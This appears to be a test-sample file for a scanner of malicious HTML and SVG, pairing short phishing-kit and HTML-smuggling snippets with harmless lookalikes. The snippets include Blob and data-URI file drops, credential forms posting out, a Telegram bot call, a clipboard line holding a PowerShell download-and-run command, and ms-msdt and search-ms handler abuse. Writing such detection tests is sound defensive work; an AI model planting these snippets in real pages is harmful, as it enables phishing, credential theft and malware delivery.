"""Pages and drawings."""

from __future__ import annotations

from tests.samples.rules import FIELD, LONG, Sample, page

_SAVE = "a.href=URL.createObjectURL(b);a.download='x';a.click()"
_HELP = (
    '<object classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11">'
    '<param name="Command" value="{}"><param name="Item1" value=",cmd,/c dir">'
)

SAMPLES = {
    "html_smuggling_blob": Sample(
        "html", page(f"var b=new Blob([atob(d)]);{_SAVE}"), page("var b = new Blob(['x'])")
    ),
    "html_smuggling_data_link": Sample(
        "html",
        f'<html><a href="data:application/zip;base64,{LONG}">x</a>'.encode(),
        f'<html><img src="data:image/png;base64,{LONG}">'.encode(),
    ),
    "html_smuggling_archive_literal": Sample(
        "html", page(f'var d="UEsDB{LONG}"; atob(d)'), page(f'var d="iVBOR{LONG}"; atob(d)')
    ),
    "html_password_form": Sample(
        "html",
        b'<html><form action="https://collect.test/a.php"><input type="password"></form>',
        b"<html><form action='https://shop.test/search'><input type=text></form>",
    ),
    "html_kit_messenger_bot": Sample(
        "html",
        page("fetch('https://api.telegram.org/bot0:x/sendMessage')", FIELD),
        page("fetch('https://api.telegram.org/bot0:x/getMe')", "<p>Our bot"),
    ),
    "html_kit_mailbox_login": Sample(
        "html",
        page("$.ajax({})", f"<h1>Sign in to your account</h1>{FIELD}"),
        page("$.ajax({})", "<h1>Sign in to your account</h1> on our site"),
    ),
    "html_kit_blocks_inspection": Sample(
        "html",
        page("document.oncontextmenu = no; if (e.keyCode == 123) {}"),
        page("if (e.keyCode == 13) send()"),
    ),
    "html_hidden_redirect": Sample(
        "html", page("window.location.href = atob('aGk=')"), page("window.location.href = '/a'")
    ),
    "html_script_packed": Sample(
        "html", page("document.write(unescape('%3c'))"), page("document.write('<p>')")
    ),
    "svg_active": Sample(
        "svg",
        b"<svg><script>window.location='https://a.test'</script></svg>",
        b"<svg><path d='M0 0'/></svg>",
    ),
    "html_command_to_clipboard": Sample(
        "html",
        page("navigator.clipboard.writeText('powershell -w 1 -c iex(irm https://a.test)')"),
        page("navigator.clipboard.writeText('https://a.test/share/1')"),
    ),
    "html_form_sends_mail": Sample(
        "html",
        b'<html><form action="mailto:a@b.test"><input type=password></form>',
        b'<html><form action="mailto:a@b.test"><input type=text></form>',
    ),
    "html_form_service": Sample(
        "html",
        f'<html><form action="https://formspree.io/f/abc">{FIELD}'.encode(),
        b'<html><form action="https://formspree.io/f/abc"><input name=question>',
    ),
    "html_kit_address_filled_in": Sample(
        "html",
        f'<html><input value="jo@example.test" readonly>{FIELD}'.encode(),
        f'<html><input placeholder="jo@example.test">{FIELD}'.encode(),
    ),
    "html_kit_refuses_password": Sample(
        "html",
        page("count = count + 1; if (count >= 2) go(); else say('Incorrect password')", FIELD),
        page("say('Incorrect password')", FIELD),
    ),
    "html_kit_human_check": Sample(
        "html",
        b'<html><script src="https://challenges.cloudflare.com/turnstile/v0/api.js"></script>'
        b"<script>window.location.href = '' + x(atob('aGk='))</script>",
        b'<html><script src="https://challenges.cloudflare.com/turnstile/v0/api.js"></script>',
    ),
    "html_opens_search_of_share": Sample(
        "html",
        b'<html><a href="search-ms:query=Review&crumb=location:\\\\files.test\\doc">',
        b'<html><a href="search-ms:query=Review&crumb=kind:document">',
    ),
    "html_calls_handler_of_windows": Sample(
        "html",
        page("location.href = 'ms-msdt:/id PCWDiagnostic /skip force'"),
        page("location.href = 'ms-settings:display'"),
    ),
    "svg_embeds_page": Sample(
        "svg",
        b"<svg><foreignObject><iframe src='https://a.test'></iframe></foreignObject></svg>",
        b"<svg><foreignObject><p>Sales in May</p></foreignObject></svg>",
    ),
    "help_page_runs_command": Sample(
        "html", _HELP.format("ShortCut").encode(), _HELP.format("Related Topics").encode()
    ),
}
